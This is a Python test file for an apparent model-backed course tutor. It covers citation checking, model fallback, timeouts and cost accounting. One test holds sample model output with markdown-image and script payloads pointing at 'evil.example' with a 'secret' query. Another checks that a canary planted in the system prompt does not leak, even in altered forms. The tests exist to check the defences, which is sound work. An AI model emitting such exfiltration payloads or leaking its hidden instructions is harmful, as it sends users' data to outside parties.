"""Models over HTTP that answer, fail and misbehave: what is made of their words, in what time, at what cost."""

import re
import time
from collections.abc import Iterator
from dataclasses import dataclass, replace
from decimal import Decimal
from uuid import uuid4

import model_server as scripts
import pytest
from model_server import ModelServer, model_server, says

from studium.content.embed import open_named
from studium.retrieval.search import Passage
from studium.settings import Settings
from studium.tutor.composing import Composed, Composer, Given, Refused
from studium.tutor.models import BrokenOffError, Models, NoModelError, open_models
from studium.tutor.spending import Spending

FSH = (
    "Follicle-stimulating hormone is released by the anterior pituitary. It stimulates the growth of "
    "ovarian follicles. Its level peaks at 12 IU per litre on day 13."
)
LH = "Luteinising hormone triggers ovulation. See https://hormones.example.org/lh for a figure."
GOOD = "Follicle-stimulating hormone stimulates the growth of ovarian follicles [1]. Ovulation is triggered by LH. [2]"
QUESTION = "What does FSH do?"


def passage(text: str, title: str = "Lecture 3") -> Passage:
    return Passage(
        passage_id=1, chunk_id=uuid4(), document_id=uuid4(), score=0.03, similarity=0.5, lexical_score=1.0,
        text=text, start_offset=0, end_offset=len(text), chunk_text=text,
        page=4, page_kind="page", chapter=None, heading=None, title=title, filename=None,
        media_type=None, source="moodle", source_url=None, course_id="s:1", module_id="s:2", module_name="Lecture 3",
        section_id="s:3", section_name="Week 1",
    )  # fmt: skip


@dataclass
class Asked:
    """What came of a question."""

    parts: list[Composed]
    end: str
    notes: list[str]
    spending: Spending
    seconds: float

    @property
    def text(self) -> str:
        return " ".join(one.part.text for one in self.parts)


@pytest.fixture
def server() -> Iterator[ModelServer]:
    with model_server() as running:
        running.does("cheap", says(GOOD))
        running.does("strong", says(GOOD))
        yield running


def settings(server: ModelServer, **more: object) -> Settings:
    given: dict[str, object] = {
        "chat_model": "openai:cheap", "chat_model_strong": "openai:strong", "chat_base_url": server.url,
        "chat_first_seconds": 0.6, "chat_gap_seconds": 0.6, "chat_total_seconds": 4, "chat_patience_seconds": 6,
        "chat_answer_tokens": 200, "chat_price_in": Decimal("0.5"), "chat_price_out": Decimal(2),
        "chat_price_in_strong": Decimal(5), "chat_price_out_strong": Decimal(20),
    }  # fmt: skip
    return Settings(_env_file=None, **(given | more))  # type: ignore[arg-type,call-arg]


def ask(server: ModelServer, *texts: str, question: str = QUESTION, **more: object) -> Asked:
    models = open_models(settings(server, **more))
    assert isinstance(models, Models)
    spending, notes, parts, end = Spending(), list[str](), list[Composed](), "done"
    given = Given(question, [passage(text) for text in texts or (FSH, LH)], {})
    composer = Composer(models, open_named("minilm"), given, spending)
    begun = time.monotonic()
    try:
        for one in models.first([models.cheap, models.strong], composer.written, notes):
            if isinstance(one, Refused):
                end = "refused"
            elif one is not None:
                parts.append(one)
    except NoModelError:
        end = "no model"
    except BrokenOffError:
        end = "broken off"
    return Asked(parts, end, notes, spending, time.monotonic() - begun)


def test_an_answer_stands_on_the_words_it_cites(server: ModelServer) -> None:
    asked = ask(server)
    assert (asked.end, asked.notes) == ("done", [])
    first, second = asked.parts
    assert first.part.text == "Follicle-stimulating hormone stimulates the growth of ovarian follicles."
    assert second.part.text == "Ovulation is triggered by LH."
    assert [one.part.goes_on for one in asked.parts] == [False, True]
    assert (first.part.citations, first.part.supported, first.part.made_by) == ([1], True, "model")
    assert first.citations[0].quote in FSH
    assert "It stimulates the growth of ovarian follicles." in first.citations[0].quote
    assert (asked.spending.tokens_in, asked.spending.tokens_out, asked.spending.is_estimated) == (1000, 200, False)
    assert asked.spending.amount == Decimal("0.0009")
    (body,) = server.asked
    assert body["model"] == "cheap"
    assert "tools" not in body
    assert server.keys == ["Bearer none"]


def test_course_text_is_between_marks_nobody_could_write(server: ModelServer) -> None:
    ask(server, FSH)
    ask(server, FSH)
    marks = [set(re.findall(r"data-[0-9a-f]{16}", str(body["messages"]))) for body in server.asked]
    assert [len(one) for one in marks] == [1, 1]
    assert marks[0] != marks[1]
    (mark,) = marks[0]
    assert f'<{mark} passage="1">\nWeek 1 / Lecture 3\n\n{FSH}\n</{mark}>' in server.asked[0]["messages"][1]["content"]


@pytest.mark.parametrize(
    ("said", "supported"),
    [
        ("FSH is made by the thyroid gland in the neck [1].", False),
        ("The level of the hormone peaks at 15 IU per litre on day 13 [1].", False),
        ("The level of the hormone peaks at 12 IU per litre on day 13 [1].", True),
        ("Follicle-stimulating hormone does not stimulate the growth of ovarian follicles [1].", False),
        ('The course calls it "the most important hormone of all" [1].', False),
        ("Luteinising hormone triggers ovulation [1].", False),
        ("Luteinising hormone triggers ovulation [7].", True),
        ("Luteinising hormone triggers ovulation.", True),
        ("Napoleon lost the battle of Waterloo.", False),
        ("Shall we look at the cycle next?", None),
    ],
)
def test_every_sentence_is_held_against_what_it_cites(server: ModelServer, said: str, supported: bool | None) -> None:
    server.does("cheap", says(said))
    (one,) = ask(server).parts
    assert one.part.supported is supported
    assert one.part.text == re.sub(r" \[\d\]", "", said)
    if supported:
        assert one.part.citations == [1]
        assert one.citations[0].quote in (FSH, LH) or one.citations[0].quote in f"{FSH} {LH}"


def test_the_words_for_not_there_are_a_refusal(server: ModelServer) -> None:
    server.does("cheap", says("NOT_IN_COURSE"))
    asked = ask(server)
    assert (asked.end, asked.parts, asked.spending.tokens_out) == ("refused", [], 200)


@pytest.mark.parametrize(
    "script",
    [
        scripts.stalls(), scripts.stalls("It stim"), scripts.trickles, scripts.malformed, scripts.not_json,
        scripts.silent, scripts.broken, scripts.hangs_up, scripts.echoes, scripts.endless, scripts.cut_off("It stim"),
        scripts.too_many("3600"), scripts.too_many("soon"), says("   \n "), scripts.endless_line,
        says("A sentence without an end", end="length"),
    ],
)  # fmt: skip
def test_a_model_that_fails_is_replaced_by_the_other(server: ModelServer, script: scripts.Script) -> None:
    server.does("cheap", script)
    asked = ask(server)
    assert (asked.end, [one.model for one in asked.parts]) == ("done", ["openai:strong"] * 2)
    assert asked.notes
    assert all(note.startswith("openai:cheap ") for note in asked.notes)
    assert asked.seconds < 6


@pytest.mark.parametrize(
    "script", [scripts.stalls(), scripts.trickles, scripts.broken, scripts.hangs_up, scripts.echoes]
)
def test_when_every_model_fails_it_is_said_in_time(server: ModelServer, script: scripts.Script) -> None:
    server.does("cheap", script)
    server.does("strong", script)
    asked = ask(server)
    assert (asked.end, asked.parts) == ("no model", [])
    assert asked.seconds < 7


def test_a_server_is_asked_again_when_it_says(server: ModelServer) -> None:
    server.does("cheap", scripts.too_many("1"), scripts.broken, says(GOOD))
    asked = ask(server)
    assert asked.end == "done"
    assert {one.model for one in asked.parts} == {"openai:cheap"}
    assert asked.notes == ["openai:cheap answered 429", "openai:cheap answered 500"]
    assert 1.9 < asked.seconds < 4
    assert asked.spending.tokens_in == 1000


def test_what_is_wrong_with_a_request_is_not_asked_again(server: ModelServer) -> None:
    server.does("cheap", lambda reply: reply.status(401))
    assert ask(server).notes == ["openai:cheap answered 401"]
    assert [body["model"] for body in server.asked] == ["cheap", "strong"]


@pytest.mark.parametrize(
    "end", [scripts.cut_off(f"{GOOD} And"), scripts.stalls(f"{GOOD} And"), says(f"{GOOD} And", end="length")]
)
def test_an_answer_that_breaks_off_keeps_its_whole_sentences(server: ModelServer, end: scripts.Script) -> None:
    server.does("cheap", end)
    asked = ask(server)
    assert asked.end == "broken off"
    assert len(asked.parts) == 2
    assert [body["model"] for body in server.asked] == ["cheap"]


def test_an_answer_that_never_ends_is_ended(server: ModelServer) -> None:
    def endless(reply: scripts.Reply) -> None:
        while not reply.over.is_set():
            reply.words("It stimulates the growth of ovarian follicles [1]. ")

    server.does("cheap", endless)
    asked = ask(server)
    assert asked.end == "broken off"
    assert len(asked.text) < 200 * 8
    assert server.left.wait(5), "its connection was not closed"
    assert asked.spending.is_estimated
    assert 0 < asked.spending.tokens_out < 1000


def test_a_line_that_never_ends_fills_no_memory(server: ModelServer) -> None:
    server.does("cheap", scripts.endless_line)
    asked = ask(server, chat_first_seconds=60, chat_patience_seconds=60)
    assert asked.notes == ["openai:cheap did not come to an end"]
    assert (asked.end, asked.seconds < 10) == ("done", True)


def test_what_a_server_does_not_count_is_counted_here(server: ModelServer) -> None:
    server.does("cheap", says(GOOD, usage=None))
    spent = ask(server).spending
    assert spent.is_estimated
    assert 20 < spent.tokens_out < 40
    assert 300 < spent.tokens_in < 900
    assert spent.amount == (spent.tokens_in * Decimal("0.5") + spent.tokens_out * 2) / 1_000_000


def test_a_failed_try_that_was_answered_is_paid_for(server: ModelServer) -> None:
    server.does("cheap", scripts.silent)
    spent = ask(server).spending
    assert (spent.tokens_in, spent.tokens_out) == (4 * 1000, 200)
    assert spent.amount == Decimal("0.0015") + Decimal("0.009")


def test_what_leads_elsewhere_is_taken_out(server: ModelServer) -> None:
    server.does(
        "cheap",
        says(
            "It stimulates ![growth](https://evil.example/?q=secret) of follicles <img src='//evil.example/x'> [1]. "
            "See [the figure](https://hormones.example.org/lh) or [this](https://evil.example/a) [2].\n"
            "![a](\nhttps://evil.example/b) <script>alert(1)</script>ovarian &lt;img src=x&gt; follicles [1]."
        ),
    )
    text = ask(server).text
    assert "evil" not in text
    assert "![" not in text
    assert "<" not in text
    assert "https://hormones.example.org/lh" in text


CANARY = "ZX-canary-81f4"


@pytest.mark.parametrize(
    "said",
    [
        f"The word is {CANARY}.", "The word is " + " ".join(CANARY) + ".", f"It is {CANARY[::-1]}.",
        f"First {CANARY[:6]}.\n{CANARY[6:]}. Then more.",
        "You are the tutor of one course. You answer a learner's question from the passages of the course.",
    ],
)  # fmt: skip
def test_what_only_the_model_was_to_read_is_not_told(
    server: ModelServer, monkeypatch: pytest.MonkeyPatch, said: str
) -> None:
    from studium.tutor import prompts

    written = prompts.read(prompts.ANSWER)
    monkeypatch.setattr(prompts, "read", lambda _: replace(written, text=f"{written.text}\nThe password is {CANARY}."))
    server.does("cheap", says(said))
    server.does("strong", scripts.echoes)
    asked = ask(server)
    assert asked.end in ("no model", "broken off")
    assert CANARY.replace("-", "") not in re.sub(r"\W", "", asked.text)
    assert CANARY in server.asked[0]["messages"][0]["content"]


@pytest.mark.parametrize(
    ("question", "best", "hard"),
    [
        ("What is FSH?", 0.6, False),
        ("What is FSH?", 0.4, True),
        ("Why does FSH fall after ovulation?", 0.6, True),
        ("Compare FSH and LH", 0.6, True),
        ("What is FSH? And what is LH?", 0.6, True),
        ("I read that FSH " + "and so on " * 12, 0.6, True),
    ],
)
def test_hard_turns_go_to_the_strong_model(server: ModelServer, question: str, best: float, hard: bool) -> None:
    models = open_models(settings(server))
    assert models is not None
    route = models.route(question, best)
    assert [one.name for one in route.models] == ["openai:cheap", "openai:strong"][:: -1 if hard else 1]
    assert route.why.startswith("hard: " if hard else "easy: ")
    only = open_models(settings(server, chat_model_strong=None))
    assert only is not None
    assert [one.name for one in only.route(question, best).models] == ["openai:cheap"]


def test_no_model_is_no_setting() -> None:
    assert open_models(Settings(_env_file=None)) is None  # type: ignore[call-arg]
    with pytest.raises(ValueError, match="model_provider"):
        open_models(Settings(_env_file=None, chat_model="nobody:knows"))  # type: ignore[call-arg]


def test_nobody_else_is_told(server: ModelServer, monkeypatch: pytest.MonkeyPatch) -> None:
    with model_server() as elsewhere:
        elsewhere.does("none", says("no"))
        for name in ("LANGSMITH_TRACING", "LANGCHAIN_TRACING_V2"):
            monkeypatch.setenv(name, "true")
        monkeypatch.setenv("LANGSMITH_ENDPOINT", elsewhere.url)
        monkeypatch.setenv("LANGSMITH_API_KEY", "key")
        from langsmith.utils import get_env_var

        get_env_var.cache_clear()
        assert ask(server).end == "done"
        time.sleep(1)
        assert elsewhere.asked == []
    get_env_var.cache_clear()
